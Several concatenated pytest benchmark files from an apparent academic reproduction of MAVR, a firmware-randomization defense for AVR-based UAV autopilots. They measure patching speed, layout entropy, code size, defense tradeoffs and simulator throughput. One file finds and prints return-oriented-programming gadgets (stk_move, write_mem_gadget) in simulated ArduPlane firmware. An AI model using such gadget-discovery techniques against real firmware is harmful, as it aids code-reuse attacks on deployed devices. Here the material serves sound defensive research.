indexed fast path replays a precomputed patch-site list and touches only
the words that actually need new targets.  This bench prices both on the
largest paper application (ArduPlane, 917 functions) and verifies the
fast path is byte-identical to the legacy one for every measured seed.

It also prices the second half of the fast path — differential page
reflash — by programming an ATmega2560-sized flash twice and recording
how many pages (and wire bytes) the page-digest diff avoids retransferring.

Results land in ``BENCH_rerandomize.json`` at the repo root.  The indexed
patcher must stay at least 3x faster than the streaming patcher — that
floor is asserted here, not just documented (measured: ~80x).

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_rerandomize_latency.py -q -s
Scale the seed count with REPRO_BENCH_RERANDOMIZE_SEEDS (default 3).
"""

import json
import os
import random
import time
from pathlib import Path

from repro.binfmt import build_relocation_index
from repro.core.patching import patch_image, patch_image_indexed
from repro.core.randomize import generate_permutation
from repro.hw.isp import IspProgrammer
from repro.avr.memory import FlashMemory

RESULTS_PATH = Path(__file__).resolve().parent.parent / "BENCH_rerandomize.json"
SPEEDUP_FLOOR = 3.0


def _seeds() -> list:
    count = int(os.environ.get("REPRO_BENCH_RERANDOMIZE_SEEDS", "3"))
    return list(range(1, count + 1))


def _median(values):
    ordered = sorted(values)
    return ordered[len(ordered) // 2]


def test_rerandomize_latency(benchmark, arduplane):
    # one-time host-side cost: the full-stream decode that builds the index
    start = time.perf_counter()
    index = build_relocation_index(arduplane)
    index_build_ms = (time.perf_counter() - start) * 1e3

    legacy_ms, indexed_ms = [], []
    for seed in _seeds():
        permutation = generate_permutation(arduplane, random.Random(seed))

        start = time.perf_counter()
        legacy = patch_image(arduplane, permutation)
        legacy_ms.append((time.perf_counter() - start) * 1e3)

        start = time.perf_counter()
        fast = patch_image_indexed(arduplane, permutation, index)
        indexed_ms.append((time.perf_counter() - start) * 1e3)

        assert fast == legacy, f"fast path diverged from legacy at seed {seed}"

    speedup = _median(legacy_ms) / _median(indexed_ms)

    # pytest-benchmark row: the indexed patcher at paper scale
    permutation = generate_permutation(arduplane, random.Random(0))
    benchmark.pedantic(
        lambda: patch_image_indexed(arduplane, permutation, index),
        rounds=3, iterations=1,
    )

    # differential reflash: how much of the wire/wear a re-randomization
    # actually costs once the chip already holds a layout
    flash = FlashMemory(size=len(arduplane.code))
    isp = IspProgrammer()
    isp.program(flash, arduplane.code)
    full_wire = isp.stats.last_bytes_on_wire
    full_prog_ms = isp.stats.last_programming_ms
    isp.program(flash, patch_image_indexed(arduplane, permutation, index))
    stats = isp.stats
    assert stats.differential_passes == 1
    assert stats.last_bytes_on_wire < full_wire

    results = {
        "app": arduplane.name,
        "functions": arduplane.function_count(),
        "code_bytes": len(arduplane.code),
        "seeds": _seeds(),
        "index": {
            "sites": index.site_count,
            "bytes": index.byte_length(),
            "build_ms": round(index_build_ms, 2),
        },
        "patch_ms": {
            "legacy": round(_median(legacy_ms), 2),
            "indexed": round(_median(indexed_ms), 2),
        },
        "speedup": round(speedup, 1),
        "reflash": {
            "full_wire_bytes": full_wire,
            "full_programming_ms": round(full_prog_ms, 1),
            "diff_wire_bytes": stats.last_bytes_on_wire,
            "diff_programming_ms": round(stats.last_programming_ms, 1),
            "pages_written": stats.last_pages_written,
            "pages_skipped": stats.last_pages_skipped,
            "wire_saving_fraction": round(
                1.0 - stats.last_bytes_on_wire / full_wire, 3
            ),
        },
    }

    RESULTS_PATH.write_text(json.dumps(results, indent=2) + "\n")
    print(
        f"\n{arduplane.name}: legacy {results['patch_ms']['legacy']} ms, "
        f"indexed {results['patch_ms']['indexed']} ms "
        f"({results['speedup']}x); index {index.site_count} sites / "
        f"{index.byte_length()} bytes, built in {results['index']['build_ms']} ms"
    )
    print(
        f"reflash: {stats.last_pages_written} pages rewritten, "
        f"{stats.last_pages_skipped} skipped, "
        f"{stats.last_bytes_on_wire}/{full_wire} bytes on wire"
    )
    print(f"results written to {RESULTS_PATH}")

    assert speedup >= SPEEDUP_FLOOR, (
        f"indexed patcher is only {speedup:.2f}x faster than the streaming "
        f"patcher; the floor is {SPEEDUP_FLOOR}x"
    )
