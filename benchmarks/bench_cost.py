"""§V-A4 — hardware cost of the MAVR extension.

Paper: ATmega1284P at $7.74 + M95M02-DR at $3.94 = $11.68 over the
$159.99 APM board — a 7.3% materials-cost increase.
"""

from repro.analysis import format_table
from repro.hw import CostModel, MAVR_EXTRA_COMPONENTS


def test_cost_model(benchmark):
    report = benchmark(lambda: CostModel().report())
    assert report["extra_usd"] == 11.68
    assert report["increase_pct"] == 7.3
    rows = [(c.name, f"${c.unit_price_usd:.2f}", c.role) for c in MAVR_EXTRA_COMPONENTS]
    print()
    print(format_table(("component", "unit price", "role"), rows,
                       title="§V-A4 added components (batch-of-ten prices)"))
    print(
        f"total increase ${report['extra_usd']} on ${report['base_usd']} "
        f"base = {report['increase_pct']}% (paper: $11.68 / 7.3%)"
    )
