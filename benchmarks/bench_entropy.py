"""§VIII-B — entropy of the randomized layout.

Paper: ArduRover's 800 symbols give 6567 bits, so random inter-function
padding (the alternative the authors considered) is unnecessary.
"""

from repro.analysis import (
    compare_defenses,
    entropy_report,
    format_table,
    image_entropy_bits,
    permutation_entropy_bits,
)
from repro.firmware import PAPER_FUNCTION_COUNTS


def test_entropy_paper_rows(benchmark):
    reports = benchmark(
        lambda: {name: entropy_report(count) for name, count in PAPER_FUNCTION_COUNTS.items()}
    )
    rows = []
    for name, report in reports.items():
        rows.append((name, report.function_count, f"{report.shuffle_bits:.0f}"))
    rover = reports["ardurover"]
    assert abs(rover.shuffle_bits - 6567) < 10  # the paper's 6567 bits
    print()
    print(format_table(
        ("application", "symbols", "entropy (bits)"),
        rows,
        title="§VIII-B layout entropy",
    ))
    print(
        "padding would add only "
        f"{rover.padding_bits_16:.0f} bits (16 pad sizes/gap) — unnecessary"
    )


def test_entropy_measured_on_images(benchmark, paper_apps_mavr):
    bits = benchmark(
        lambda: {name: image_entropy_bits(image) for name, image in paper_apps_mavr.items()}
    )
    assert abs(bits["ardurover"] - 6567) < 10
    assert bits["arducopter"] > bits["arduplane"] > bits["ardurover"]


def test_aslr_comparison(benchmark):
    """§IX: ASLR on a 16-bit address space is dismissed for lack of entropy."""
    comparison = benchmark(lambda: compare_defenses(800))
    assert comparison["aslr_16bit_base_bits"] < 16
    assert comparison["function_shuffle_bits"] / comparison["aslr_16bit_base_bits"] > 100
    print(
        f"\nASLR base entropy: {comparison['aslr_16bit_base_bits']:.0f} bits vs "
        f"MAVR shuffle: {comparison['function_shuffle_bits']:.0f} bits"
    )


def test_entropy_scaling_series(benchmark):
    """Entropy-vs-modularity series (the paper's 'more modules, stronger')."""
    series = benchmark(
        lambda: [(n, permutation_entropy_bits(n)) for n in (100, 200, 400, 800, 1600)]
    )
    for (n1, b1), (n2, b2) in zip(series, series[1:]):
        assert b2 > b1
    print()
    print(format_table(("functions", "entropy (bits)"),
                       [(n, f"{b:.0f}") for n, b in series],
                       title="entropy vs code modularity"))
