"""Defense backend comparison matrix: mavr vs daedalus vs ctomp.

Prices every registered backend on every paper application plus the
test app: layout entropy, gadget survival under diversification, install
startup overhead, detection-to-recovery latency, and flash pages written
per recovery.  The tradeoff the matrix makes visible:

* ``mavr`` — thousands of bits of layout entropy, recovery costs a
  differential reflash (one flash cycle, a handful of pages);
* ``daedalus`` — finer units and a fresh layout *every* boot; on the test
  app it scatters sub-blocks over the free flash with stochastic gaps,
  on the paper apps (no flash headroom, the same limit that made §VIII-B
  drop padding) it falls back to the in-place sub-block shuffle;
* ``ctomp`` — zero layout entropy by design; in exchange recovery is an
  in-place context restore: ~1 ms on the simulated clock, zero pages
  written, zero flash wear.

All metrics come from the simulated clock and seeded RNGs, so the emitted
``BENCH_defense_matrix.json`` is bit-identical across runs — that is what
lets ``tests/docs/test_docs_drift.py`` diff the docs/DEFENSES.md table
against it mechanically.

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_defense_matrix.py -q -s
Scale the survival trials with REPRO_BENCH_DEFENSE_TRIALS (default 3).
"""

import json
import os
from pathlib import Path

from repro.analysis.defense_matrix import (
    build_matrix,
    format_matrix_table,
    matrix_summary_lines,
)
from repro.core.defenses import DEFENSE_BACKENDS
from repro.firmware import TESTAPP, build_app
from repro.asm.linker import MAVR_OPTIONS

RESULTS_PATH = Path(__file__).resolve().parent.parent / "BENCH_defense_matrix.json"


def _trials() -> int:
    return int(os.environ.get("REPRO_BENCH_DEFENSE_TRIALS", "3"))


def test_defense_matrix(benchmark, paper_apps_mavr):
    apps = dict(paper_apps_mavr)
    apps[TESTAPP.name] = build_app(TESTAPP, MAVR_OPTIONS)

    matrix = build_matrix(apps, trials=_trials())

    # pytest-benchmark row: the cheapest full lifecycle (install + fault +
    # recovery) on the smallest image
    from repro.analysis.defense_matrix import measure_backend

    benchmark.pedantic(
        lambda: measure_backend("ctomp", apps[TESTAPP.name], trials=1),
        rounds=3, iterations=1,
    )

    for app_name, app in matrix["apps"].items():
        backends = app["backends"]
        for name in DEFENSE_BACKENDS:
            assert backends[name]["still_flying"], f"{name} lost {app_name}"

        mavr, daed, ctomp = (
            backends["mavr"], backends["daedalus"], backends["ctomp"]
        )
        # secrecy: the diversifying backends shred the gadget inventory;
        # ctomp honestly leaves the layout public
        # testapp has ~60 functions (~272 bits); the paper apps are in
        # the thousands — both far beyond brute force
        assert mavr["entropy_bits"] > (100 if app_name == "testapp" else 1000)
        assert daed["entropy_bits"] >= mavr["entropy_bits"]
        assert daed["layout_units"] > mavr["layout_units"]
        assert ctomp["entropy_bits"] == 0.0
        assert mavr["gadget_survival"] < 0.25
        assert daed["gadget_survival"] < 0.25
        assert ctomp["gadget_survival"] == 1.0
        # wear + latency: ctomp recovery never touches flash and is
        # orders of magnitude faster than any reflash
        assert ctomp["recovery_pages_written"] == 0
        assert ctomp["recovery_flash_cycles"] == 0
        assert ctomp["recovery_latency_ms"] < 2.0
        for name in ("mavr", "daedalus"):
            assert backends[name]["recovery_flash_cycles"] == 1
            assert backends[name]["recovery_pages_written"] > 0
            assert (
                backends[name]["recovery_latency_ms"]
                > ctomp["recovery_latency_ms"]
            )

    RESULTS_PATH.write_text(json.dumps(matrix, indent=2) + "\n")
    print()
    for line in matrix_summary_lines(matrix):
        print(line)
    print(format_matrix_table(matrix))
    print(f"results written to {RESULTS_PATH}")
