"""Figure 9 / §VI-B2 — the preprocessing phase.

"1. Parse Symbols  2. Prepend Information to hex file": the host-side
pass extracts the function list and data-section pointers from the
compiler output and prepends them to the HEX uploaded to the external
flash.  This bench measures the pass at ArduPlane scale and checks the
paper's capacity remark — image + symbols fit a chip the size of the
application processor's flash, but barely.
"""

from repro.analysis import format_table, measure_prologue_leak
from repro.binfmt import scan_precision_recall
from repro.core import preprocess_report
from repro.hw import M95M02_SIZE


def test_fig9_preprocessing(benchmark, arduplane):
    report = benchmark.pedantic(
        preprocess_report, args=(arduplane,), rounds=1, iterations=1
    )
    assert report.function_count == 917
    flash_blob = arduplane.to_flash_blob()
    assert len(flash_blob) <= M95M02_SIZE  # fits the chip...
    headroom = M95M02_SIZE - len(flash_blob)
    assert headroom < 48 * 1024  # ...but with limited headroom (§VI-B2)
    rows = [
        ("functions parsed", report.function_count),
        ("pointer slots found", report.funcptr_slots),
        (".text bytes", report.text_bytes),
        ("preprocessed HEX bytes", report.hex_bytes),
        ("on-chip container bytes", len(flash_blob)),
        ("external flash headroom", f"{headroom} B"),
    ]
    print()
    print(format_table(("metric", "value"), rows,
                       title="Fig. 9 / §VI-B2 preprocessing at ArduPlane scale"))


def test_pointer_scan_quality(benchmark, arduplane):
    """The data-section scan must find every real function pointer
    (recall 1.0) for the randomized build to be sound."""
    stats = benchmark.pedantic(
        scan_precision_recall, args=(arduplane,), rounds=1, iterations=1
    )
    assert stats["recall"] == 1.0
    print(f"\npointer scan: {stats['scanned']} candidates, "
          f"{stats['truth']} true slots, recall={stats['recall']:.2f}, "
          f"precision={stats['precision']:.2f}")


def test_prologue_leak_quantified(benchmark, paper_apps_stock):
    """§VI-B1: the stock toolchain's consolidated save/restore block is a
    beacon; the MAVR toolchain build has zero references to leak."""
    plane_stock = paper_apps_stock["arduplane"]
    report = benchmark.pedantic(
        measure_prologue_leak, args=(plane_stock,), rounds=1, iterations=1
    )
    assert report.total_references > 0
    print(f"\nstock ArduPlane: {report.total_references} references into "
          f"the shared prologue/epilogue blocks from "
          f"{report.referencing_functions} functions "
          "(each a beacon after randomization); MAVR toolchain: 0")
