"""Telemetry overhead: the observability subsystem must be ~free when off.

Three configurations run the same supervised-flight workload (a booted
MAVR system ticking under master supervision):

* ``baseline`` — a bare :class:`~repro.uav.Autopilot` tick loop, no master
  and no telemetry anywhere: the pre-instrumentation cost of simply
  executing the firmware.
* ``off``      — :class:`~repro.core.MavrSystem` with its default
  *disabled* telemetry (what every caller gets without opting in).
* ``on``       — the same system with telemetry enabled and a JSONL event
  sink attached.

The disabled path is zero-cost per tick *by construction* — the engine
retire loop is never touched and metrics publish pull-style at snapshot
time — so the measured gap between ``baseline`` and ``off`` is master
supervision (which predates telemetry) plus noise.  The asserted floors:

* ``off`` loses at most 5% throughput against ``baseline``;
* ``on``  loses at most 15%.

A second workload times the boot/reflash cycle (where the enabled path
does real work: spans, histograms, one event per reflashed page).

Rounds are interleaved across configurations so thermal/scheduler drift
hits all three equally; each configuration keeps its best round.

Results land in ``BENCH_telemetry_overhead.json`` at the repo root.

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_telemetry_overhead.py -q -s
Scale with REPRO_BENCH_TICKS (default 150) / REPRO_BENCH_ROUNDS (default 3).
"""

import json
import os
import time
from pathlib import Path

from repro.core import MavrSystem
from repro.telemetry import Telemetry
from repro.uav import Autopilot

RESULTS_PATH = Path(__file__).resolve().parent.parent / "BENCH_telemetry_overhead.json"
OFF_OVERHEAD_MAX_PCT = 5.0
ON_OVERHEAD_MAX_PCT = 15.0
WARMUP_TICKS = 30


def _ticks() -> int:
    return int(os.environ.get("REPRO_BENCH_TICKS", "150"))


def _rounds() -> int:
    return int(os.environ.get("REPRO_BENCH_ROUNDS", "3"))


def _flight_configs(testapp, tmp_path):
    """name -> (tick_fn, finalize_fn) over a warmed-up flight loop."""
    autopilot = Autopilot(testapp)

    system_off = MavrSystem(testapp, seed=11)
    system_off.boot()

    tel = Telemetry(enabled=True, jsonl_path=tmp_path / "bench_events.jsonl")
    system_on = MavrSystem(testapp, seed=11, telemetry=tel)
    system_on.boot()

    def run_baseline(n):
        for _ in range(n):
            autopilot.tick()

    return {
        "baseline": run_baseline,
        "off": lambda n: system_off.run(n, watch_every=10),
        "on": lambda n: system_on.run(n, watch_every=10),
    }, tel


def _best_ticks_per_second(configs, ticks, rounds):
    for run in configs.values():
        run(WARMUP_TICKS)  # warm decode caches and pyc paths
    best = {name: 0.0 for name in configs}
    for _ in range(rounds):
        for name, run in configs.items():  # interleaved: drift hits all
            start = time.perf_counter()
            run(ticks)
            elapsed = time.perf_counter() - start
            best[name] = max(best[name], ticks / elapsed)
    return best


def _overhead_pct(reference: float, measured: float) -> float:
    return round((1.0 - measured / reference) * 100.0, 2)


def _best_boot_ms(testapp, tmp_path, rounds):
    """Host-time cost of one randomize+reflash boot, off vs on."""
    system_off = MavrSystem(testapp, seed=23)
    tel = Telemetry(enabled=True, jsonl_path=tmp_path / "bench_boot.jsonl")
    system_on = MavrSystem(testapp, seed=23, telemetry=tel)
    best = {"off": float("inf"), "on": float("inf")}
    for system, name in ((system_off, "off"), (system_on, "on")):
        system.boot()  # warm; first boot pays full-image programming
    for _ in range(rounds):
        for system, name in ((system_off, "off"), (system_on, "on")):
            start = time.perf_counter()
            system.boot()
            best[name] = min(best[name], (time.perf_counter() - start) * 1000)
    tel.close()
    return best


def test_telemetry_overhead(benchmark, testapp, tmp_path):
    ticks, rounds = _ticks(), _rounds()
    configs, tel = _flight_configs(testapp, tmp_path)
    rates = _best_ticks_per_second(configs, ticks, rounds)
    off_overhead = _overhead_pct(rates["baseline"], rates["off"])
    on_overhead = _overhead_pct(rates["baseline"], rates["on"])
    tel.close()

    boot_ms = _best_boot_ms(testapp, tmp_path, rounds)

    results = {
        "ticks_per_round": ticks,
        "rounds": rounds,
        "flight": {
            "ticks_per_second": {k: round(v) for k, v in rates.items()},
            "off_overhead_pct": off_overhead,
            "on_overhead_pct": on_overhead,
        },
        "reboot": {
            "best_ms": {k: round(v, 2) for k, v in boot_ms.items()},
            "on_overhead_pct": _overhead_pct(
                1.0 / boot_ms["off"], 1.0 / boot_ms["on"]
            ),
        },
        "floors": {
            "off_max_pct": OFF_OVERHEAD_MAX_PCT,
            "on_max_pct": ON_OVERHEAD_MAX_PCT,
        },
    }

    # pytest-benchmark row: the telemetry-on flight loop
    benchmark.pedantic(lambda: configs["on"](ticks), rounds=1, iterations=1)

    RESULTS_PATH.write_text(json.dumps(results, indent=2) + "\n")
    print(f"\n{'config':<10} {'ticks/s':>12} {'overhead':>9}")
    for name in ("baseline", "off", "on"):
        overhead = {"baseline": 0.0, "off": off_overhead, "on": on_overhead}[name]
        print(f"{name:<10} {rates[name]:>10,.0f}/s {overhead:>8.2f}%")
    print(f"reboot: off {boot_ms['off']:.1f} ms, on {boot_ms['on']:.1f} ms")
    print(f"results written to {RESULTS_PATH}")

    assert off_overhead <= OFF_OVERHEAD_MAX_PCT, (
        f"disabled telemetry costs {off_overhead:.2f}% against the bare "
        f"tick loop; the ceiling is {OFF_OVERHEAD_MAX_PCT}%"
    )
    assert on_overhead <= ON_OVERHEAD_MAX_PCT, (
        f"enabled telemetry costs {on_overhead:.2f}%; "
        f"the ceiling is {ON_OVERHEAD_MAX_PCT}%"
    )
