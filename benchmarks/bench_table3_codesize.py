"""Table III — change in code size, stock toolchain vs MAVR toolchain.

Paper rows (bytes): ArduPlane 221608 -> 221294, ArduCopter 244532 ->
244292, ArduRover 177870 -> 177556.  The headline: the custom toolchain's
binaries come out *slightly smaller* (~0.1%) despite --no-relax.
"""

from repro.analysis import format_table
from repro.firmware import PAPER_MAVR_SIZES, PAPER_STOCK_SIZES


def test_table3_code_size(benchmark, paper_apps_stock, paper_apps_mavr):
    sizes = benchmark(
        lambda: {
            name: (paper_apps_stock[name].size, paper_apps_mavr[name].size)
            for name in paper_apps_stock
        }
    )
    rows = []
    for name in PAPER_STOCK_SIZES:
        stock, mavr = sizes[name]
        rows.append((
            name,
            PAPER_STOCK_SIZES[name], stock,
            PAPER_MAVR_SIZES[name], mavr,
        ))
        # stock sizes are calibrated exactly
        assert stock == PAPER_STOCK_SIZES[name]
        # the MAVR build must be smaller, by the same order as the paper
        delta = mavr - stock
        paper_delta = PAPER_MAVR_SIZES[name] - PAPER_STOCK_SIZES[name]
        assert delta < 0
        assert abs(delta) < 3 * abs(paper_delta)
    print()
    print(format_table(
        ("application", "paper stock", "measured stock", "paper MAVR", "measured MAVR"),
        rows,
        title="Table III: change in code size (bytes)",
    ))


def test_code_size_fits_flash(paper_apps_mavr, benchmark):
    """Everything must fit the ATmega2560's 256 KB (paper §III)."""
    sizes = benchmark(lambda: [image.size for image in paper_apps_mavr.values()])
    for size in sizes:
        assert size <= 256 * 1024
