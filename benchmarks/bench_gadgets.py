"""Figures 4/5 and §VII-A — gadget discovery.

The paper found **953 gadgets** in its ArduPlane-class test application and
used two of them: ``stk_move`` (Fig. 4) and ``write_mem_gadget`` (Fig. 5).
This bench regenerates the inventory, checks both shapes exist with the
paper's exact pop sequences, and prints Fig. 4/5-style listings.
"""

from repro.analysis import format_table
from repro.asm import disassemble
from repro.attack import GadgetFinder


def test_gadget_count_paper_scale(benchmark, arduplane):
    finder = GadgetFinder(arduplane)
    count = benchmark.pedantic(finder.count, rounds=1, iterations=1)
    # paper: 953 in the attack test application; shape target is
    # "roughly one usable ret-gadget per function, i.e. high hundreds"
    assert 800 <= count <= 1400
    print(f"\ngadgets found in {arduplane.name}: {count} (paper: 953)")
    print(f"jump-oriented (ijmp/icall) gadgets: {finder.jop_count()} "
          "(the related-work variant; also randomized away)")
    histogram = finder.histogram()
    top = sorted(histogram.items(), key=lambda kv: -kv[1])[:5]
    print(format_table(("gadget length (insns)", "count"), top,
                       title="inventory by length (top 5)"))


def test_fig4_stk_move_listing(benchmark, arduplane):
    finder = GadgetFinder(arduplane)
    stk = benchmark.pedantic(finder.find_stk_move, rounds=1, iterations=1)
    assert stk.pop_regs == (28, 29, 16)  # pop r28, pop r29, pop r16 (Fig. 4)
    listing = disassemble(arduplane.code, stk.entry, stk.entry + 16)
    print("\nGadget 1: stk_move (Fig. 4)")
    print("\n".join(listing))
    assert "out 0x3e, r29" in listing[0]
    assert any("out 0x3d, r28" in line for line in listing)


def test_fig5_write_mem_listing(benchmark, arduplane):
    finder = GadgetFinder(arduplane)
    wm = benchmark.pedantic(finder.find_write_mem, rounds=1, iterations=1)
    assert wm.stores == ((1, 5), (2, 6), (3, 7))  # std Y+1..3, r5..r7
    assert wm.pop_regs == (29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4)
    listing = disassemble(arduplane.code, wm.std_entry, wm.std_entry + 44)
    print("\nGadget 2: write_mem_gadget (Fig. 5)")
    print("\n".join(listing))
    assert "std Y+1, r5" in listing[0]
    assert any("ret" in line for line in listing)
