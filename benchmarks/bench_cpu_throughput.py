"""Execution-engine throughput: interpreter vs predecoded vs blocks vs compiled.

Every attack replay, MAVR boot, and brute-force campaign in this
reproduction runs through :meth:`AvrCpu.run`, so simulator throughput is
the budget everything else spends.  This bench measures instructions/sec
for all four engines on two workloads:

* ``firmware`` — the testapp autopilot control loop (the realistic mix of
  loads/stores, calls and branches every experiment executes), and
* ``hot_loop`` — a synthetic straight-line ALU body plus a backwards jump
  (peak benefit: the decode cache revisits one address range and the
  block engine fuses the whole body into a single superblock).  The body
  is deliberately built from *cheap* handlers — the engines share every
  handler, so a lightweight mix isolates exactly what they differ on:
  per-retire bookkeeping.

Results land in ``BENCH_cpu_throughput.json`` at the repo root so later
PRs have a perf trajectory to compare against.  Floors are asserted here,
not just documented:

* predecoded >= 3x interpreter on both workloads (the PR 1 contract),
* blocks >= 1.4x predecoded and >= 6x interpreter on hot_loop, and
* compiled >= 3x blocks on hot_loop and >= 1.5x blocks on firmware
  (the PR 7 contract: exec-generated block bodies remove the per-
  instruction handler call the blocks engine still pays).

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_cpu_throughput.py -q -s
Scale the budget with REPRO_BENCH_INSTRUCTIONS (default 200000, ~3 s total).
"""

import json
import os
import time
from pathlib import Path

from repro.avr import AvrCpu, Instruction, Mnemonic, encode_stream
from repro.uav import Autopilot

RESULTS_PATH = Path(__file__).resolve().parent.parent / "BENCH_cpu_throughput.json"
ENGINES = ("interpreter", "predecoded", "blocks", "compiled")
WARMUP_INSTRUCTIONS = 20_000

# (numerator engine, denominator engine) -> {workload: floor}
SPEEDUP_FLOORS = {
    ("predecoded", "interpreter"): {"firmware": 3.0, "hot_loop": 3.0},
    ("blocks", "predecoded"): {"hot_loop": 1.4},
    ("blocks", "interpreter"): {"hot_loop": 6.0},
    ("compiled", "blocks"): {"hot_loop": 3.0, "firmware": 1.5},
}

I = Instruction
M = Mnemonic


def _instruction_budget() -> int:
    return int(os.environ.get("REPRO_BENCH_INSTRUCTIONS", "200000"))


def _hot_loop_cpu(engine: str) -> AvrCpu:
    """A 15-instruction straight-line ALU loop that never exits.

    One fused superblock per iteration (well under the fuse cap), mixing
    immediates, register moves, flag-setting ALU ops and bit transfers.
    """
    body = [
        I(M.LDI, rd=16, k=1),
        I(M.LDI, rd=17, k=2),
        I(M.MOV, rd=18, rr=16),
        I(M.MOV, rd=19, rr=17),
        I(M.ADD, rd=16, rr=17),
        I(M.EOR, rd=22, rr=16),
        I(M.MOV, rd=23, rr=22),
        I(M.SWAP, rd=24),
        I(M.INC, rd=20),
        I(M.MOV, rd=21, rr=20),
        I(M.LDI, rd=25, k=7),
        I(M.MOV, rd=26, rr=25),
        I(M.BST, rd=16, b=0),
        I(M.BLD, rd=27, b=1),
    ]
    cpu = AvrCpu(engine=engine)
    cpu.load_program(encode_stream(body + [I(M.RJMP, k=-(len(body) + 1))]))
    cpu.reset()
    return cpu


def _firmware_cpu(testapp, engine: str) -> AvrCpu:
    return Autopilot(testapp, engine=engine).cpu


def _measure(cpu: AvrCpu, instructions: int) -> float:
    cpu.run(WARMUP_INSTRUCTIONS)  # fill the decode/block caches, warm pyc paths
    start = time.perf_counter()
    executed = cpu.run(instructions)
    elapsed = time.perf_counter() - start
    assert executed == instructions, "workload halted before spending its budget"
    return executed / elapsed


def test_engine_throughput(benchmark, testapp):
    budget = _instruction_budget()
    results = {
        "instructions_per_engine": budget,
        "workloads": {},
        "speedup": {},
    }
    for workload, make_cpu in (
        ("firmware", lambda engine: _firmware_cpu(testapp, engine)),
        ("hot_loop", _hot_loop_cpu),
    ):
        rates = {}
        for engine in ENGINES:
            rates[engine] = _measure(make_cpu(engine), budget)
        results["workloads"][workload] = {
            engine: round(rate) for engine, rate in rates.items()
        }
        results["speedup"][workload] = {
            f"{fast}_vs_{slow}": round(rates[fast] / rates[slow], 2)
            for fast, slow in (
                ("predecoded", "interpreter"),
                ("blocks", "predecoded"),
                ("blocks", "interpreter"),
                ("compiled", "blocks"),
                ("compiled", "interpreter"),
            )
        }

    # pytest-benchmark row: the default engine on the realistic workload
    benchmark.pedantic(
        lambda: _firmware_cpu(testapp, "predecoded").run(budget),
        rounds=1, iterations=1,
    )

    RESULTS_PATH.write_text(json.dumps(results, indent=2) + "\n")
    header = " ".join(f"{engine:>14}" for engine in ENGINES)
    print(f"\n{'workload':<10} {header}")
    for workload, rates in results["workloads"].items():
        row = " ".join(f"{rates[engine]:>12,}/s" for engine in ENGINES)
        print(f"{workload:<10} {row}")
        print(f"{'':>10} speedups: {results['speedup'][workload]}")
    print(f"results written to {RESULTS_PATH}")

    for (fast, slow), floors in SPEEDUP_FLOORS.items():
        for workload, floor in floors.items():
            speedup = results["speedup"][workload][f"{fast}_vs_{slow}"]
            assert speedup >= floor, (
                f"{fast} engine is only {speedup:.2f}x faster than "
                f"{slow} on {workload}; the floor is {floor}x"
            )
