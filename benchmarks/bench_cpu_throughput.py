"""Execution-engine throughput: predecoded (cached) vs interpreter (uncached).

Every attack replay, MAVR boot, and brute-force campaign in this
reproduction runs through :meth:`AvrCpu.run`, so simulator throughput is
the budget everything else spends.  This bench measures instructions/sec
for both engines on two workloads:

* ``firmware`` — the testapp autopilot control loop (the realistic mix of
  loads/stores, calls and branches every experiment executes), and
* ``hot_loop`` — a synthetic ALU+branch loop (peak benefit of revisiting
  cached decodes).

Results land in ``BENCH_cpu_throughput.json`` at the repo root so later
PRs have a perf trajectory to compare against.  The predecoded engine
must stay at least 3x faster than the reference interpreter — that floor
is asserted here, not just documented.

Run:  PYTHONPATH=src python -m pytest benchmarks/bench_cpu_throughput.py -q -s
Scale the budget with REPRO_BENCH_INSTRUCTIONS (default 200000, ~2 s total).
"""

import json
import os
import time
from pathlib import Path

from repro.avr import AvrCpu, Instruction, Mnemonic, encode_stream
from repro.uav import Autopilot

RESULTS_PATH = Path(__file__).resolve().parent.parent / "BENCH_cpu_throughput.json"
ENGINES = ("interpreter", "predecoded")
WARMUP_INSTRUCTIONS = 20_000
SPEEDUP_FLOOR = 3.0

I = Instruction
M = Mnemonic


def _instruction_budget() -> int:
    return int(os.environ.get("REPRO_BENCH_INSTRUCTIONS", "200000"))


def _hot_loop_cpu(engine: str) -> AvrCpu:
    """A five-instruction ALU loop that never exits (peak revisit rate)."""
    cpu = AvrCpu(engine=engine)
    cpu.load_program(encode_stream([
        I(M.LDI, rd=16, k=0),
        I(M.LDI, rd=17, k=1),
        I(M.ADD, rd=16, rr=17),
        I(M.EOR, rd=18, rr=16),
        I(M.INC, rd=19),
        I(M.DEC, rd=20),
        I(M.RJMP, k=-5),  # back to the add
    ]))
    cpu.reset()
    return cpu


def _firmware_cpu(testapp, engine: str) -> AvrCpu:
    return Autopilot(testapp, engine=engine).cpu


def _measure(cpu: AvrCpu, instructions: int) -> float:
    cpu.run(WARMUP_INSTRUCTIONS)  # fill the decode cache / warm the pyc paths
    start = time.perf_counter()
    executed = cpu.run(instructions)
    elapsed = time.perf_counter() - start
    assert executed == instructions, "workload halted before spending its budget"
    return executed / elapsed


def test_engine_throughput(benchmark, testapp):
    budget = _instruction_budget()
    results = {
        "instructions_per_engine": budget,
        "workloads": {},
        "speedup": {},
    }
    for workload, make_cpu in (
        ("firmware", lambda engine: _firmware_cpu(testapp, engine)),
        ("hot_loop", _hot_loop_cpu),
    ):
        rates = {}
        for engine in ENGINES:
            rates[engine] = _measure(make_cpu(engine), budget)
        results["workloads"][workload] = {
            engine: round(rate) for engine, rate in rates.items()
        }
        results["speedup"][workload] = round(
            rates["predecoded"] / rates["interpreter"], 2
        )

    # pytest-benchmark row: the cached engine on the realistic workload
    benchmark.pedantic(
        lambda: _firmware_cpu(testapp, "predecoded").run(budget),
        rounds=1, iterations=1,
    )

    RESULTS_PATH.write_text(json.dumps(results, indent=2) + "\n")
    print(f"\n{'workload':<10} {'interpreter':>14} {'predecoded':>14} {'speedup':>8}")
    for workload, rates in results["workloads"].items():
        print(
            f"{workload:<10} {rates['interpreter']:>12,}/s "
            f"{rates['predecoded']:>12,}/s "
            f"{results['speedup'][workload]:>7.2f}x"
        )
    print(f"results written to {RESULTS_PATH}")

    for workload, speedup in results["speedup"].items():
        assert speedup >= SPEEDUP_FLOOR, (
            f"predecoded engine is only {speedup:.2f}x faster than the "
            f"interpreter on {workload}; the floor is {SPEEDUP_FLOOR}x"
        )
