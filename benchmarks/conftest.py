"""Shared benchmark fixtures: the three paper applications, both toolchains.

Builds are cached inside :mod:`repro.firmware.apps`, so the first bench in
a session pays the link cost and the rest reuse the images.
"""

import pytest

